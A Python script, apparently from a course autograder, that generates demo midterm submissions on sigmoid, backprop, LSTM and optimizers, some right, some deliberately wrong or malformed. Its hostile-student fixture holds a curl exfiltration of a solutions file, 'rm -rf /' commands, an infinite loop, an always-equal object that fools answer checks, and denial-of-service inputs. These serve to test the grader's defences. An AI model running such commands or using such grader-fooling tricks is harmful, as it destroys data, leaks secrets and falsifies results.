"""Write the demo class in submissions/: students of the midterm exam, right, wrong, broken and hostile.

    python scripts/make_demo_class.py [--out submissions] [--quiz quizzes/midterm-exam.yaml]

Per-student numbers come from each student's variant, so the right answers are
computed here from the references; the mistakes are the course's typical ones.
The output is committed; run this again after changing the bank or the exam.
"""
from __future__ import annotations

import argparse
import shutil
import sys
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from grader.bank import load_bank  # noqa: E402
from grader.checks import resolve  # noqa: E402
from grader.quiz import assignment, load_quiz  # noqa: E402

# -- code, as students write it --------------------------------------------------------------

GOOD = {
    "sigmoid_grad": "def sigmoid_grad(x):\n    s = sigmoid(x)\n    return s * (1 - s)\n",
    "sigmoid": "def sigmoid(x):\n    x = np.asarray(x, dtype=float)\n    e = np.exp(-np.abs(x))\n"
               "    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))\n",
    "relu": "def relu(x):\n    return np.maximum(x, 0.0)\n",
    "relu_grad": "def relu_grad(x):\n    return (np.asarray(x) > 0).astype(float)\n",
    "leaky_relu": "def leaky_relu(x, alpha=0.01):\n    return np.where(x > 0, x, alpha * x)\n",
    "elu": "def elu(x, alpha=1.0):\n    return np.where(x > 0, x, alpha * np.expm1(np.minimum(x, 0)))\n",
    "softplus": "def softplus(x):\n    return np.maximum(x, 0) + np.log1p(np.exp(-np.abs(x)))\n",
    "bce": "def bce(y, y_hat):\n    return -np.mean(y * np.log(y_hat) + (1 - y) * np.log(1 - y_hat))\n",
    "bce_with_logits": "def bce_with_logits(y, z):\n    return np.mean(np.maximum(z, 0) - y * z + np.log1p(np.exp(-np.abs(z))))\n",
    "bce_grad_logits": "def bce_grad_logits(y, z):\n    return (sigmoid(z) - y) / y.size\n",
    "forward": "def forward(x, W1, b1, W2, b2):\n    Z1 = x @ W1 + b1\n    A1 = sigmoid(Z1)\n    Z2 = A1 @ W2 + b2\n"
               "    return Z1, A1, Z2, sigmoid(Z2)\n",
    "lstm_cell_forward": "def lstm_cell_forward(x, h_prev, c_prev, W, b):\n    H = h_prev.shape[1]\n"
                         "    a = np.concatenate([h_prev, x], axis=1) @ W + b\n"
                         "    f, i, g, o = sigmoid(a[:, :H]), sigmoid(a[:, H:2*H]), np.tanh(a[:, 2*H:3*H]), sigmoid(a[:, 3*H:])\n"
                         "    c = f * c_prev + i * g\n    return o * np.tanh(c), c\n",
    "xavier_uniform": "def xavier_uniform(n_in, n_out, rng):\n    r = np.sqrt(6 / (n_in + n_out))\n"
                      "    return rng.uniform(-r, r, size=(n_in, n_out))\n",
    "he_normal": "def he_normal(n_in, n_out, rng):\n    return rng.normal(0, np.sqrt(2 / n_in), size=(n_in, n_out))\n",
    "momentum_step": "def momentum_step(theta, g, v, lr, rho=0.9):\n    v = rho * v - lr * g\n    return theta + v, v\n",
    "adagrad_step": "def adagrad_step(theta, g, G, lr, eps=1e-7):\n    G = G + g * g\n"
                    "    return theta - lr * g / (np.sqrt(G) + eps), G\n",
    "rmsprop_step": "def rmsprop_step(theta, g, G, lr, beta=0.9, eps=1e-7):\n    G = beta * G + (1 - beta) * g * g\n"
                    "    return theta - lr * g / (np.sqrt(G) + eps), G\n",
    "adam_step": "def adam_step(theta, g, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):\n"
                 "    m = beta1 * m + (1 - beta1) * g\n    v = beta2 * v + (1 - beta2) * g * g\n"
                 "    m_hat = m / (1 - beta1 ** t)\n    v_hat = v / (1 - beta2 ** t)\n"
                 "    return theta - lr * m_hat / (np.sqrt(v_hat) + eps), m, v\n",
    "rnn_forward": "def rnn_forward(xs, s0, U, W, V, b):\n    S, s = [], s0\n    for x in xs:\n"
                   "        s = np.tanh(U @ x + W @ s + b)\n        S.append(s)\n    S = np.array(S)\n    return S, S @ V.T\n",
    "batchnorm_forward": "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
                         "    return gamma * (x - x.mean(0)) / np.sqrt(x.var(0) + eps) + beta\n",
    "layernorm_forward": "def layernorm_forward(x, gamma, beta, eps=1e-5):\n"
                         "    mu = x.mean(-1, keepdims=True)\n    return gamma * (x - mu) / np.sqrt(x.var(-1, keepdims=True) + eps) + beta\n",
    "dropout": "def dropout(x, p, rng):\n    keep = rng.random(x.shape) >= p\n    return np.where(keep, x / (1 - p), 0.0)\n",
    "clip_by_norm": "def clip_by_norm(g, max_norm):\n    n = np.sqrt(np.sum(g * g))\n"
                    "    return g * (max_norm / n) if n > max_norm else g.copy()\n",
}

BUGS = {
    "overflow": {"sigmoid": "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))\n"},
    "adam": {"adam_step": "def adam_step(theta, g, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):\n"
                          "    m = beta1 * m + (1 - beta1) * g\n    v = beta2 * v + (1 - beta2) * g * g\n"
                          "    return theta - lr * m / (np.sqrt(v) + eps), m, v\n"},
    "lstm": {"lstm_cell_forward": "def lstm_cell_forward(x, h_prev, c_prev, W, b):\n    H = h_prev.shape[1]\n"
                                  "    a = np.concatenate([h_prev, x], axis=1) @ W + b\n"
                                  "    i, f, g, o = sigmoid(a[:, :H]), sigmoid(a[:, H:2*H]), np.tanh(a[:, 2*H:3*H]), sigmoid(a[:, 3*H:])\n"
                                  "    c = f * c_prev + i * g\n    return o * np.tanh(c), c\n"},
    "init": {"xavier_uniform": "def xavier_uniform(n_in, n_out, rng):\n    return np.zeros((n_in, n_out))\n",
             "he_normal": "def he_normal(n_in, n_out, rng):\n    return np.zeros((n_in, n_out))\n"},
    "sign": {"bce_grad_logits": "def bce_grad_logits(y, z):\n    return (y - sigmoid(z)) / y.size\n"},
}

HOSTILE_CODE = '''import os, subprocess
try:
    SECRET = open("../../solutions/sigmoid_derivative.py").read()
except Exception:
    SECRET = ""
os.system("curl http://example.com/steal?" + SECRET[:20])


def sigmoid(x):
    while True:
        pass


def sigmoid_grad(x):
    class Liar:
        def __eq__(self, other):
            return True
    return Liar()


def forward(x, W1, b1, W2, b2):
    subprocess.run(["rm", "-rf", "/"])
    os._exit(0)
'''

# -- formula answers, as students type them ------------------------------------------------------

RIGHT = {
    "sigmoid-derivative/in-sigma": "sigma(x)(1 - sigma(x))",
    "tanh-sigmoid/tanh-in-sigma": "2 sigma(2x) - 1", "tanh-sigmoid/tanh-derivative": "1 - tanh(x)^2",
    "relu-family/softplus-derivative": "sigma(x)", "relu-family/elu-derivative-negative": "alpha exp(x)",
    "sigmoid-symmetry/identity": "sigma(-x)",
    "sigmoid-symmetry/proof": ["1 - sigma(x)", "exp(-x)/(1+exp(-x))", "1/(1+exp(x))", "sigma(-x)"],
    "binary-cross-entropy/grad-logit": "sigma(z) - y",
    "backprop-formulas/delta": "fprime(z_l) * (W_next.T @ delta_next)", "backprop-formulas/grad-w": "delta_l @ a_prev.T",
    "backprop-formulas/grad-b": "delta_l", "backprop-formulas/sgd-l2": "W - alpha*(delta_l @ a_prev.T + lambda*W)",
    "vanishing-gradient/bound-formula": "(1/4)^D", "residual-gradient/formula": "dE_dxL (1 + F'(x_l))",
    "rnn-bptt/grad-wo-formula": "(O3 - Y3) S3",
    "rnn-gradient-dynamics/jacobian": "(1 - tanh(W_x X_j + W_s S_prev + b)^2) W_s",
    "lstm-cell/forget": "sigma(W_f @ [h_prev; x_t] + b_f)", "lstm-cell/input": "sigma(W_i @ [h_prev; x_t] + b_i)",
    "lstm-cell/candidate": "tanh(W_C @ [h_prev; x_t] + b_C)", "lstm-cell/cell": "f_t*C_prev + i_t*Ctilde_t",
    "lstm-cell/output": "sigma(W_o @ [h_prev; x_t] + b_o)", "lstm-cell/hidden": "o_t*tanh(C_t)",
    "lstm-cell/cell-gradient": "f_t", "gru-cell/hidden": "(1 - z_t)*h_prev + z_t*htilde_t",
    "weight-init/xavier-uniform-r": "sqrt(6/(n_in + n_out))", "weight-init/xavier-normal-var": "2/(n_in + n_out)",
    "weight-init/he-normal-std": "sqrt(2/n_in)", "optimizers/adam-bias-correction": "m_t/(1 - beta1^t)",
    "normalization/bn-formula": "(x - mu)/sqrt(sigma^2 + epsilon)",
    "regularization/l2-grad": "lambda W", "regularization/l1-grad": "lambda sign(W)",
    "init-symmetry/explain": "The hidden units are symmetric, so they get identical gradients and stay identical; "
                             "random initialisation breaks the symmetry.",
}
LATEX = {
    "sigmoid-derivative/in-sigma": r"\sigma(x)\left(1-\sigma(x)\right)",
    "binary-cross-entropy/grad-logit": r"\hat{y} - y",
    "backprop-formulas/delta": r"f'(z^{(l)}) \odot (W^{(l+1)})^{T} \delta^{(l+1)}",
    "backprop-formulas/grad-w": r"\delta^{(l)} (a^{(l-1)})^T",
    "lstm-cell/cell": r"f_t \odot C_{t-1} + i_t \odot \tilde{C}_t",
    "lstm-cell/forget": r"\sigma（W_f \cdot [h_{t-1}, x_t] + b_f）",
    "weight-init/xavier-uniform-r": r"\sqrt{\frac{6}{n_{in}+n_{out}}}",
    "optimizers/adam-bias-correction": r"\frac{m_t}{1-\beta_1^t}",
    "init-symmetry/explain": "隐藏单元是对称的，梯度相同，更新后仍然相同，所以要随机初始化来打破对称。",
}
MISTAKES = {
    "sign": {"binary-cross-entropy/grad-logit": "y - sigma(z)", "sigmoid-derivative/in-sigma": "sigma(x)(1 + sigma(x))",
             "backprop-formulas/sgd-l2": "W + alpha*(delta_l @ a_prev.T + lambda*W)", "rnn-bptt/grad-wo-formula": "(Y3 - O3) S3"},
    "transpose": {"backprop-formulas/delta": "fprime(z_l) * (W_next @ delta_next)", "backprop-formulas/grad-w": "a_prev @ delta_l.T",
                  "backprop-formulas/sgd-l2": "W - alpha*(a_prev @ delta_l.T + lambda*W)"},
    "lstm": {"lstm-cell/cell": "i_t*C_prev + f_t*Ctilde_t", "lstm-cell/forget": "sigma(W_f @ [x_t; h_prev] + b_f)",
             "lstm-cell/candidate": "sigma(W_C @ [h_prev; x_t] + b_C)", "gru-cell/hidden": "z_t*h_prev + (1 - z_t)*htilde_t"},
    "adam": {"optimizers/adam-bias-correction": "m_t/(1 - beta1)"},
    "init": {"init-symmetry/zero": "A", "init-symmetry/constant": "A", "init-symmetry/why": ["C", "D"],
             "weight-init/xavier-uniform-r": "4 sqrt(6/(n_in + n_out))",
             "init-symmetry/explain": "Zero is a fine starting point because the loss is convex."},
}


def right_answer(part, params, style):
    address = part.address
    if style == "latex" and address in LATEX:
        return LATEX[address]
    if address in RIGHT:
        return RIGHT[address]
    ref = resolve(part.reference.answer, params)
    if part.type == "numeric":
        return ref if isinstance(ref, str) else (f"{float(ref):.6g}" if style != "latex" else float(ref))
    if part.type == "matrix":
        return [[round(float(v), 6) for v in row] for row in ref]
    if part.type == "choice":
        return ref if isinstance(ref, str) else list(ref)
    return ref if isinstance(ref, str) else ref[0]


def student_files(bank, quiz, name, style="ascii", mistakes=(), skip=0.0, bugs=(), seed=0):
    import random
    rnd = random.Random(seed)
    answers, functions = {}, []
    for item in assignment(quiz, bank, name):
        for part in item.parts:
            if part.type == "code":
                functions += [f["name"] for f in part.spec["functions"]]
                continue
            if rnd.random() < skip:
                continue
            value = right_answer(part, item.params, style)
            for m in mistakes:
                value = MISTAKES.get(m, {}).get(part.address, value)
            answers.setdefault(item.question.id, {})[part.id] = value
    code = dict(GOOD)
    for b in bugs:
        code.update(BUGS[b])
    needed = sorted(set(functions) | ({"sigmoid"} if functions else set()))
    source = "import numpy as np\n\n\n" + "\n\n".join(code[f] for f in needed if f in code) if needed else None
    return answers, source


def write(folder: Path, answers=None, source=None, raw_answers=None, raw_source=None, extra=None):
    folder.mkdir(parents=True, exist_ok=True)
    if raw_answers is not None:
        (folder / "answers.yaml").write_bytes(raw_answers)
    elif answers is not None:
        (folder / "answers.yaml").write_text(yaml.safe_dump(answers, allow_unicode=True, sort_keys=False), encoding="utf-8")
    if raw_source is not None:
        (folder / "solution.py").write_bytes(raw_source)
    elif source:
        (folder / "solution.py").write_text(source, encoding="utf-8")
    for name, data in (extra or {}).items():
        (folder / name).write_bytes(data)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=ROOT / "submissions")
    ap.add_argument("--quiz", type=Path, default=ROOT / "quizzes" / "midterm-exam.yaml")
    args = ap.parse_args()
    bank = load_bank(ROOT)
    quiz = load_quiz(args.quiz, bank)
    if args.out.exists():
        shutil.rmtree(args.out)
    plan = {
        "s01-all-right": dict(),
        "s02-latex-and-chinese": dict(style="latex"),
        "s03-sign-errors": dict(mistakes=["sign"], bugs=["sign"]),
        "s04-missing-transposes": dict(mistakes=["transpose"]),
        "s05-swapped-lstm-gates": dict(mistakes=["lstm"], bugs=["lstm"]),
        "s06-adam-without-bias-correction": dict(mistakes=["adam"], bugs=["adam"]),
        "s07-overflowing-sigmoid": dict(bugs=["overflow"]),
        "s08-zero-initialisation": dict(mistakes=["init"], bugs=["init"]),
        "s09-half-done": dict(skip=0.5, seed=9),
    }
    for name, options in plan.items():
        answers, source = student_files(bank, quiz, name, **options)
        write(args.out / name, answers, source)
    write(args.out / "s10-empty")
    (args.out / "s10-empty" / ".keep").write_text("")
    answers, _ = student_files(bank, quiz, "s11-malformed")
    text = yaml.safe_dump(answers, allow_unicode=True, sort_keys=False)
    write(args.out / "s11-malformed", raw_answers=text.replace("in-sigma:", "in-sigma: [unclosed", 1).encode(),
          raw_source="# r\xe9sum\xe9 in Latin-1\nimport numpy as np\n".encode("latin-1"))
    answers, _ = student_files(bank, quiz, "s12-hostile")
    answers.setdefault("sigmoid-derivative", {})["in-sigma"] = "__import__('os').system('rm -rf /')"
    answers["backprop-formulas"]["delta"] = "(" * 5000 + "x" + ")" * 5000
    answers["fnn-forward"]["z2"] = "9^9^9^9"
    write(args.out / "s12-hostile", answers, HOSTILE_CODE)
    answers, source = student_files(bank, quiz, "s13-wrong-types")
    answers["sigmoid-derivative"]["max"] = [0.25, 0.5]
    answers["fnn-forward"]["z1"] = "one two three"
    answers["init-symmetry"]["why"] = 42
    answers["no-such-question"] = {"a": "b"}
    answers["backprop-formulas"]["no-such-part"] = "x"
    write(args.out / "s13-wrong-types", answers, source.replace("def forward", "def forwrd"),
          extra={"notes.txt": b"my notes", "solution.pyc": b"\x00\x01"})
    print(f"wrote {len(list(args.out.iterdir()))} students to {args.out}")


if __name__ == "__main__":
    main()
